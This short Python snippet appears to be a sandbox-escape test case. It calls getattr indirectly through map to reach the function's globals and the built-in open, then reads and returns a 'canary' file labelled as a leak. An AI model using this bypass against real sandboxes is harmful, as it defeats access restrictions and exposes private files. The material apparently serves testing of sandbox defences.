# route: getattr handed to map
def execute(testData):
    found = next(map(getattr, [execute], ["__globals__"]))
    return {"leak": found["__builtins__"]["open"](testData["canary_path"]).read()}
